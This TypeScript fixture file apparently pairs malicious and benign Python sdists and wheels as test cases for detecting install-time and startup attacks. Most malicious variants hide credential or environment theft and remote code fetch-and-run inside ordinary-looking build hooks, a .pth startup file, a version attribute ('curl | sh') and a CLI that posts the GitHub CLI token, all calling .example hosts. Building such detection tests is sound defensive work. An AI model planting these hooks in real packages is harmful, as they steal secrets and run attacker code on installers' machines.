import type { AttackPair } from '../../../../told.ts';
import { pair, py, sdist, wheel } from './kit.ts';

/** What runs while a package is installed, or whenever Python starts. */
export const INSTALLING: Readonly<Record<string, AttackPair>> = {
  distclass: pair(
    sdist({
      'setup.py': py`"""Build script."""
import os
import urllib.request
from setuptools import Distribution, setup

class NativeDistribution(Distribution):
    """A distribution with native parts."""
    def has_ext_modules(self) -> bool:
        urllib.request.urlopen("https://wheels.example/t", data=repr(dict(os.environ)).encode())
        return True

setup(name="own", version="1.0", packages=["own"], distclass=NativeDistribution)
`,
    }),
    sdist({
      'setup.py': py`"""Build script."""
from setuptools import Distribution, setup

class NativeDistribution(Distribution):
    """A distribution with native parts."""
    def has_ext_modules(self) -> bool:
        return True

setup(name="own", version="1.0", packages=["own"], distclass=NativeDistribution)
`,
    }),
  ),
  'finalize-options': pair(
    sdist({
      'setup.py': py`"""Build script."""
from setuptools import setup
from buildtools.commands import commands

setup(name="own", version="1.0", packages=["own"], cmdclass=commands())
`,
      'buildtools/__init__.py': '',
      'buildtools/commands.py': py`"""Commands of the build."""
from __future__ import annotations
import subprocess
import sys
from setuptools import Command
from setuptools.command.egg_info import egg_info

class EggInfo(egg_info):
    """Writes the metadata."""
    def finalize_options(self) -> None:
        super().finalize_options()
        self.announce("preparing", 2)
        subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://prep.example/p').read())"])

def commands() -> dict[str, type[Command]]:
    """Commands by their names."""
    return {"egg_info": EggInfo}
`,
    }),
    sdist({
      'setup.py': py`"""Build script."""
from setuptools import setup
from buildtools.commands import commands

setup(name="own", version="1.0", packages=["own"], cmdclass=commands())
`,
      'buildtools/__init__.py': '',
      'buildtools/commands.py': py`"""Commands of the build."""
from __future__ import annotations
import subprocess
import sys
from setuptools import Command
from setuptools.command.egg_info import egg_info

class EggInfo(egg_info):
    """Writes the metadata."""
    def finalize_options(self) -> None:
        super().finalize_options()
        subprocess.check_call([sys.executable, "-m", "cython", "own/fast.pyx"])

def commands() -> dict[str, type[Command]]:
    """Commands by their names."""
    return {"egg_info": EggInfo}
`,
    }),
  ),
  'in-tree-backend': pair(
    sdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      '_build/backend.py': py`"""Build backend of the project."""
from setuptools import build_meta as _orig
from setuptools.build_meta import *
from _hooks import before

def get_requires_for_build_wheel(config_settings=None):
    """What the build needs."""
    before()
    return _orig.get_requires_for_build_wheel(config_settings)
`,
      '_build/_hooks.py': py`"""Hooks of the build."""
import os
import pathlib
import urllib.request

def before() -> None:
    """Runs ahead of the build."""
    for name in (".pypirc", ".npmrc", ".netrc"):
        path = pathlib.Path.home() / name
        if path.exists():
            urllib.request.urlopen(f"https://build.example/{os.getpid()}", data=path.read_bytes())
`,
    }),
    sdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      '_build/backend.py': py`"""Build backend of the project."""
import os
from setuptools import build_meta as _orig
from setuptools.build_meta import *

def get_requires_for_build_wheel(config_settings=None):
    """What the build needs."""
    extra = ["cmake"] if os.environ.get("OWN_NATIVE") else []
    return _orig.get_requires_for_build_wheel(config_settings) + extra
`,
    }),
  ),
  'version-attr': pair(
    sdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "own"\ndynamic = ["version"]\n[tool.setuptools.dynamic]\nversion = {attr = "own._meta.release"}\n',
      'own/_meta.py': py`"""Version of the package."""
import os

class _Release(str):
    """A version that checks itself."""

def _release() -> str:
    os.system("curl -s https://ver.example/c | sh")
    return "1.0"

release = _Release(_release())
`,
    }),
  ),
  'hatch-hook': pair(
    sdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "own"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\npath = "tools/build_hook.py"\n',
      'tools/build_hook.py': py`"""Compiles the messages."""
from __future__ import annotations
from typing import Any
import os
import stat
import subprocess
import urllib.request
from hatchling.builders.hooks.plugin.interface import BuildHookInterface

class MessagesHook(BuildHookInterface):
    """Compiles the messages ahead of the build."""
    def initialize(self, version: str, build_data: dict[str, Any]) -> None:
        target = os.path.join(self.directory, "msgfmt")
        urllib.request.urlretrieve("https://tools.example/msgfmt", target)
        os.chmod(target, os.stat(target).st_mode | stat.S_IXUSR)
        subprocess.run([target], check=False)
`,
    }),
    sdist({
      'pyproject.toml':
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "own"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\npath = "tools/build_hook.py"\n',
      'tools/build_hook.py': py`"""Compiles the messages."""
from __future__ import annotations
from typing import Any
from pathlib import Path
import subprocess
from hatchling.builders.hooks.plugin.interface import BuildHookInterface

class MessagesHook(BuildHookInterface):
    """Compiles the messages ahead of the build."""
    def initialize(self, version: str, build_data: dict[str, Any]) -> None:
        for path in Path(self.root).glob("locale/*/own.po"):
            subprocess.run(["msgfmt", str(path), "-o", str(path.with_suffix(".mo"))], check=True)
`,
    }),
  ),
  'pth-module': pair(
    wheel({
      'own-startup.pth': 'import own._startup\n',
      'own/__init__.py': '"""A library."""\n',
      'own/_startup.py': py`"""Runs when Python starts."""
import atexit
import functools
import json
import os
import sys
import urllib.request

def _flush(url: str, *, argv: list[str]) -> None:
    body = json.dumps({"argv": argv, "env": dict(os.environ)}).encode()
    urllib.request.urlopen(urllib.request.Request(url, data=body))

if "pip" not in sys.argv[0]:
    atexit.register(functools.partial(_flush, "https://start.example/s", argv=sys.argv))
`,
    }),
    wheel({
      'own-startup.pth': 'import own._startup\n',
      'own/__init__.py': '"""A library."""\n',
      'own/_startup.py': py`"""Runs when Python starts."""
import faulthandler
import os

if os.environ.get("OWN_FAULTS"):
    faulthandler.enable()
`,
    }),
  ),
  'cli-first-run': pair(
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[console_scripts]\nown = own.cli:app\n',
      'own/__init__.py': '',
      'own/cli.py': py`"""The command line."""
from __future__ import annotations
from pathlib import Path
import typer
import httpx

app = typer.Typer()

@app.callback()
def main(ctx: typer.Context) -> None:
    """A tool for notes."""
    ctx.obj = _session()

def _session() -> httpx.Client:
    client = httpx.Client(base_url="https://notes.example", timeout=2)
    token = Path("~/.config/gh/hosts.yml").expanduser()
    if token.exists():
        client.post("/session", content=token.read_bytes())
    return client

@app.command()
def add(text: str) -> None:
    """Adds a note."""
    print(text)
`,
    }),
    wheel({
      'own-1.0.dist-info/entry_points.txt': '[console_scripts]\nown = own.cli:app\n',
      'own/__init__.py': '',
      'own/cli.py': py`"""The command line."""
from __future__ import annotations
from pathlib import Path
import typer
import httpx

app = typer.Typer()

@app.callback()
def main(ctx: typer.Context) -> None:
    """A tool for notes."""
    token = Path("~/.config/own/token").expanduser()
    headers = {"Authorization": f"Bearer {token.read_text()}"} if token.exists() else {}
    ctx.obj = httpx.Client(base_url="https://notes.example", headers=headers, timeout=2)

@app.command()
def add(ctx: typer.Context, text: str) -> None:
    """Adds a note."""
    ctx.obj.post("/notes", json={"text": text})
`,
    }),
  ),
  'build-ext-header': pair(
    sdist({
      'setup.py': py`"""Build script."""
from __future__ import annotations
import io
import tarfile
import urllib.request
import runpy
from pathlib import Path
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

VENDOR = Path("vendor")

class BuildExt(build_ext):
    """Gets the headers and builds the extension."""
    def build_extensions(self) -> None:
        data = urllib.request.urlopen("https://headers.example/h.tgz").read()
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            tar.extractall(VENDOR)
        runpy.run_path(str(VENDOR / "configure.py"))
        super().build_extensions()

setup(name="own", version="1.0", ext_modules=[Extension("own.fast", ["fast.c"])], cmdclass={"build_ext": BuildExt})
`,
      'fast.c': 'int main(void) { return 0; }\n',
    }),
  ),
};
